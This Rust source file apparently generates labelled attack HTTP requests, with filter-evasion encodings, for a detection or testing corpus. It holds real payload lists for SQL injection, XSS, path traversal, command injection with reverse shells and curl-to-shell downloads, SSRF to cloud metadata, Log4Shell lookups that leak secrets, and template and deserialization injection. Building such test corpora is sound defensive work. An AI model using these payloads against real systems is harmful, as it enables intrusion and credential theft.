//! Attack requests: real payload families placed in the fields attackers use,
//! in the encodings they use to slip past naive filters.

use super::benign::{self, Client};
use super::encode::{double_percent, html_entities, json_unicode_escape, mix_case, percent, Json};
use super::CorpusRequest;
use crate::rng::Rng;

/// Where a payload goes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    Query,
    Json,
    Form,
    Cookie,
    Header(&'static str),
    Path,
    MultipartFile,
    MultipartFilename,
}

struct Family {
    name: &'static str,
    /// Relative frequency.
    weight: usize,
    payloads: &'static [&'static str],
    places: &'static [Place],
    /// Query/JSON parameter names this family is typically sent in.
    params: &'static [&'static str],
}

use Place::*;

const FAMILIES: &[Family] = &[
    Family {
        name: "sqli",
        weight: 22,
        payloads: &[
            "' OR '1'='1",
            "' OR 1=1-- -",
            "admin'--",
            "1' AND SLEEP(5)#",
            "1 UNION SELECT username, password FROM users--",
            "-1' UNION ALL SELECT NULL,NULL,CONCAT(user(),0x3a,database())-- -",
            "1; DROP TABLE users--",
            "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
            "' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
            "1'; WAITFOR DELAY '0:0:5'--",
            "1 AND (SELECT 1 FROM pg_sleep(5))",
            "' OR 'x'='x",
            "1' ORDER BY 10-- -",
            "1/**/UNION/**/SELECT/**/1,2,3",
            "'; EXEC xp_cmdshell('dir')--",
            "1' AND BENCHMARK(5000000,MD5(1))#",
            "' UNION SELECT load_file('/etc/passwd')-- ",
            "1 AND 1=CONVERT(int,@@version)",
            "' || (SELECT CHAR(113,118,122,106,113))||'",
            "1' INTO OUTFILE '/var/www/html/s.php'-- ",
            "1 AND updatexml(1,concat(0x5c,user()),1)",
            "') OR ('a'='a",
        ],
        places: &[Query, Query, Query, Json, Json, Form, Cookie, Header("X-Forwarded-For")],
        params: &["id", "user_id", "sort", "q", "category", "order_id", "username", "email"],
    },
    Family {
        name: "xss",
        weight: 20,
        payloads: &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.cookie)>",
            "<svg/onload=alert(1)>",
            "\"><script>fetch('//evil.example/c?'+document.cookie)</script>",
            "javascript:alert(document.domain)",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<body onload=alert('xss')>",
            "<details open ontoggle=prompt(1)>",
            "'\"><img src=1 onerror=confirm(1)>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<input autofocus onfocus=alert(1)>",
            "<video><source onerror=\"alert(1)\">",
            "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        ],
        places: &[Query, Query, Json, Json, Form, Cookie, Header("Referer")],
        params: &["q", "search", "name", "comment", "redirect", "title", "message", "bio"],
    },
    Family {
        name: "lfi",
        weight: 12,
        payloads: &[
            "../../../../etc/passwd",
            "....//....//....//etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/proc/self/environ",
            "php://filter/convert.base64-encode/resource=index.php",
            "file:///etc/shadow",
            "../../../../../../var/log/apache2/access.log",
            "../../../../etc/passwd\0.png",
            "/var/www/../../etc/hosts",
            "../../../home/app/.aws/credentials",
            "..%c0%af..%c0%af..%c0%afetc/passwd",
        ],
        places: &[Query, Query, Json, Path, Path, MultipartFilename],
        params: &["file", "path", "template", "page", "doc", "download", "lang", "include"],
    },
    Family {
        name: "rce",
        weight: 12,
        payloads: &[
            "; cat /etc/passwd",
            "| id",
            "$(whoami)",
            "`uname -a`",
            "&& wget http://198.51.100.7/x.sh -O /tmp/x.sh",
            "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            "| nc -e /bin/sh 203.0.113.5 4444",
            "; curl -s http://203.0.113.9/p | sh",
            "127.0.0.1; ping -c 3 198.51.100.1",
            "x || powershell -enc SQBFAFgA",
            "; python3 -c 'import socket,os,pty;s=socket.socket()'",
            "$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
            "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        ],
        places: &[Query, Query, Json, Form, Header("User-Agent")],
        params: &["host", "ip", "cmd", "domain", "filename", "target", "ping"],
    },
    Family {
        name: "ssrf",
        weight: 8,
        payloads: &[
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
            "gopher://127.0.0.1:6379/_SET%20x%201",
            "http://localhost:8080/admin",
            "http://127.0.0.1:2375/containers/json",
            "http://[::1]:22/",
            "http://0x7f000001/",
            "http://2130706433/admin",
            "dict://127.0.0.1:11211/stats",
            "http://100.100.100.200/latest/meta-data/",
            "http://0.0.0.0:9200/_cat/indices",
        ],
        places: &[Query, Query, Json, Json],
        params: &["url", "callback", "webhook_url", "image_url", "next", "feed", "avatar_url"],
    },
    Family {
        name: "log4j",
        weight: 8,
        payloads: &[
            "${jndi:ldap://198.51.100.23:1389/a}",
            "${jndi:rmi://evil.example.net/o}",
            "${${lower:j}ndi:${lower:l}dap://x.example.org/e}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.4/z}",
            "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.example.com}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
        ],
        places: &[Header("User-Agent"), Header("X-Api-Version"), Header("Referer"), Query, Json],
        params: &["q", "username", "search", "x"],
    },
    Family {
        name: "nosql",
        weight: 5,
        payloads: &["$ne", "$gt", "$regex", "$where", "$nin", "$exists"],
        places: &[Json, Query],
        params: &["username", "password", "email", "token"],
    },
    Family {
        name: "scanner",
        weight: 6,
        payloads: &[
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "Mozilla/5.0 zgrab/0.x",
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            "gobuster/3.6",
            "Fuzz Faster U Fool v2.1.0-dev",
            "Wfuzz/3.1.0",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
            "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Acunetix-Product)",
        ],
        places: &[Header("User-Agent")],
        params: &[],
    },
    Family {
        name: "php",
        weight: 3,
        payloads: &[
            "<?php system($_GET['cmd']); ?>",
            "php://input",
            "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
            "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
            "expect://id",
            "phar://uploads/avatar.jpg/test.txt",
            "assert(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
            "<?= passthru('ls -la') ?>",
        ],
        places: &[Query, Json, Form, MultipartFile],
        params: &["page", "data", "template", "content", "file"],
    },
    Family {
        name: "java",
        weight: 3,
        payloads: &[
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
            "#{T(java.lang.System).getenv()}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        ],
        places: &[Query, Json, Header("Content-Type"), Cookie],
        params: &["name", "expr", "template", "data", "filter"],
    },
    Family {
        name: "node",
        weight: 3,
        payloads: &[
            "require('child_process').exec('id')",
            "process.mainModule.require('child_process').execSync('cat /etc/passwd')",
            "{{constructor.constructor('return process')().exit()}}",
            "{{7*7}}",
            "__proto__",
            "this.constructor.constructor(\"return process\")()",
        ],
        places: &[Query, Json],
        params: &["name", "template", "filter", "q", "expression"],
    },
    Family {
        name: "xxe",
        weight: 2,
        payloads: &[
            "<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><order><id>&xxe;</id></order>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://198.51.100.3/x.dtd\"> %ext;]><r/>",
        ],
        places: &[Json],
        params: &[],
    },
    Family {
        name: "crlf",
        weight: 2,
        payloads: &["\r\nSet-Cookie: admin=true", "\r\nLocation: https://evil.example/", "\r\n\r\n<html>injected</html>"],
        places: &[Query],
        params: &["redirect", "next", "lang", "return_to"],
    },
];

/// How a value is encoded on its way into a query arg, form field or cookie.
fn url_style(payload: &str, family: &str, rng: &mut Rng, plus: bool) -> String {
    let mixed = if rng.chance(0.35) {
        mix_case(payload, rng)
    } else {
        payload.to_string()
    };
    match rng.below(10) {
        0 | 1 if family == "xss" => percent(html_entities(&mixed, rng).as_bytes(), plus),
        2 if !payload.contains('%') => double_percent(mixed.as_bytes()),
        _ => percent(mixed.as_bytes(), plus),
    }
}

fn json_style(payload: &str, family: &str, rng: &mut Rng) -> Json {
    let mixed = if rng.chance(0.3) {
        mix_case(payload, rng)
    } else {
        payload.to_string()
    };
    match rng.below(4) {
        0 => Json::RawStr(json_unicode_escape(&mixed, false)),
        1 if family == "xss" || family == "sqli" => Json::RawStr(json_unicode_escape(&mixed, true)),
        _ => Json::Str(mixed),
    }
}

fn pick_family(rng: &mut Rng) -> &'static Family {
    let total: usize = FAMILIES.iter().map(|f| f.weight).sum();
    let mut x = rng.below(total);
    for f in FAMILIES {
        if x < f.weight {
            return f;
        }
        x -= f.weight;
    }
    &FAMILIES[0]
}

/// One attack request.
pub fn request(rng: &mut Rng) -> CorpusRequest {
    let fam = pick_family(rng);
    let payload = *rng.pick(fam.payloads);
    let place = *rng.pick(fam.places);
    let param = if fam.params.is_empty() {
        "q"
    } else {
        *rng.pick(fam.params)
    };
    let who = match place {
        Header(_) => Client::Sdk,
        _ => benign::client(rng),
    };
    let mut req = match (fam.name, place) {
        ("nosql", Json) => {
            let inner = Json::Obj(vec![(
                payload.to_string(),
                if payload == "$where" {
                    Json::str("this.password.length > 0")
                } else {
                    Json::Null
                },
            )]);
            let body = Json::obj(vec![("username", inner.clone()), ("password", inner)]);
            let h = benign::headers(rng, who, true);
            benign::finish(
                "POST",
                "/api/v1/auth/login".into(),
                h,
                Some("application/json".into()),
                body.to_bytes(false),
            )
        }
        ("nosql", _) => {
            let target = format!(
                "/api/v1/users?{param}%5B{}%5D=1&password%5B{}%5D=x",
                percent(payload.as_bytes(), false),
                percent(payload.as_bytes(), false)
            );
            let h = benign::headers(rng, who, false);
            benign::finish("GET", target, h, None, Vec::new())
        }
        ("node", Json) if payload == "__proto__" => {
            let body = Json::obj(vec![
                ("name", Json::str("x")),
                ("__proto__", Json::obj(vec![("isAdmin", Json::Bool(true))])),
            ]);
            let h = benign::headers(rng, who, true);
            benign::finish(
                "PATCH",
                format!("/api/v1/users/{}", benign::id(rng)),
                h,
                Some("application/json".into()),
                body.to_bytes(false),
            )
        }
        ("node", _) if payload == "__proto__" => {
            let h = benign::headers(rng, who, false);
            benign::finish("GET", "/api/v1/settings?__proto__%5BisAdmin%5D=true&constructor%5Bprototype%5D%5BisAdmin%5D=true".into(), h, None, Vec::new())
        }
        ("java", Query) if payload.starts_with("class.") => {
            let h = benign::headers(rng, who, true);
            let body = format!("{payload}=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp");
            benign::finish(
                "POST",
                "/api/v1/feedback".into(),
                h,
                Some("application/x-www-form-urlencoded".into()),
                body.into_bytes(),
            )
        }
        ("xxe", _) => {
            let h = benign::headers(rng, who, true);
            benign::finish(
                "POST",
                "/api/v1/orders/import".into(),
                h,
                Some("application/xml".into()),
                payload.as_bytes().to_vec(),
            )
        }
        (_, Query) => {
            let mut args = benign::query_args(rng);
            let at = rng.below(args.len() + 1);
            let mut q = benign::encode_query(&args);
            let enc = format!("{param}={}", url_style(payload, fam.name, rng, false));
            args.clear();
            if at == 0 || q.is_empty() {
                q = if q.is_empty() {
                    enc
                } else {
                    format!("{enc}&{q}")
                };
            } else {
                q = format!("{q}&{enc}");
            }
            let h = benign::headers(rng, who, false);
            benign::finish(
                "GET",
                format!("{}?{q}", benign::rest_path(rng)),
                h,
                None,
                Vec::new(),
            )
        }
        (_, Json) => {
            let (res, body) = benign::json_body(rng);
            let value = json_style(payload, fam.name, rng);
            let body = match body {
                Json::Obj(mut pairs) => {
                    let at = rng.below(pairs.len() + 1);
                    if rng.chance(0.3) {
                        pairs.insert(
                            at,
                            (
                                "profile".into(),
                                Json::obj(vec![("display", Json::Bool(true)), (param, value)]),
                            ),
                        );
                    } else {
                        pairs.insert(at, (param.to_string(), value));
                    }
                    Json::Obj(pairs)
                }
                other => other,
            };
            let h = benign::headers(rng, who, true);
            benign::finish(
                "POST",
                format!("/api/v1/{res}"),
                h,
                Some("application/json".into()),
                body.to_bytes(false),
            )
        }
        (_, Form) => {
            let plus = rng.chance(0.3);
            let body = format!(
                "username={}&password=Summer2024%21&remember_me=on",
                url_style(payload, fam.name, rng, plus)
            );
            let h = benign::headers(rng, who, true);
            benign::finish(
                "POST",
                "/auth/login".into(),
                h,
                Some("application/x-www-form-urlencoded".into()),
                body.into_bytes(),
            )
        }
        (_, Cookie) => {
            let mut h = benign::headers(rng, Client::Browser, false);
            let evil = format!(
                "{}={}",
                rng.pick(&["tracking_id", "pref", "session_hint", "ab_test"]),
                url_style(payload, fam.name, rng, false)
            );
            match h.iter_mut().find(|(n, _)| n == "Cookie") {
                Some((_, v)) => {
                    v.push_str("; ");
                    v.push_str(&evil);
                }
                None => h.push(("Cookie".into(), evil)),
            }
            benign::finish("GET", benign::rest_path(rng), h, None, Vec::new())
        }
        (_, Header(name)) => {
            let mut h = benign::headers(rng, who, false);
            let value = payload.replace(['\r', '\n'], " ");
            match h.iter_mut().find(|(n, _)| n.eq_ignore_ascii_case(name)) {
                Some((_, v)) => *v = value,
                None => h.push((name.to_string(), value)),
            }
            if name == "Content-Type" {
                let body = benign::json_body(rng).1.to_bytes(false);
                return tag(
                    benign::finish("POST", "/api/v1/upload".into(), h, None, body),
                    fam.name,
                );
            }
            benign::finish("GET", benign::rest_path(rng), h, None, Vec::new())
        }
        (_, Path) => {
            let trav = payload.trim_start_matches('/');
            let enc: String = match rng.below(4) {
                0 => trav.replace("../", "..%2f").replace('\0', "%00"),
                1 => trav.replace("..", "%2e%2e").replace('\0', "%00"),
                2 => percent(trav.as_bytes(), false).replace("%2F", "/"),
                _ => percent(trav.as_bytes(), false),
            };
            let prefix = rng.pick(&["/static/", "/assets/img/", "/api/v1/files/", "/download/"]);
            let h = benign::headers(rng, who, false);
            benign::finish("GET", format!("{prefix}{enc}"), h, None, Vec::new())
        }
        (_, MultipartFile) | (_, MultipartFilename) => {
            let bd = benign::boundary(rng);
            let body = if place == MultipartFile {
                benign::multipart_body(
                    &bd,
                    &[(
                        "file",
                        Some("invoice.php"),
                        Some("application/octet-stream"),
                        payload.as_bytes(),
                    )],
                )
            } else {
                let csv = benign::csv(rng);
                benign::multipart_body(&bd, &[("file", Some(payload), Some("text/csv"), &csv)])
            };
            let h = benign::headers(rng, who, true);
            benign::finish(
                "POST",
                "/api/v1/imports/upload".into(),
                h,
                Some(format!("multipart/form-data; boundary={bd}")),
                body,
            )
        }
    };
    req.attack = Some(fam.name);
    req
}

fn tag(mut r: CorpusRequest, name: &'static str) -> CorpusRequest {
    r.attack = Some(name);
    r
}
